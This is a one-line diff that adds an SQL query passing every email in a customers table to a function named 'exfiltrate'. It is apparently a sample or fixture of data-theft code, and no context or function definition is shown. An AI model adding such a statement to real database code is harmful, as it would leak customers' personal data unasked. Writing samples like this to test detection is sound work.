@@ -1,0 +1,1 @@
+SELECT public.exfiltrate(email) FROM customers
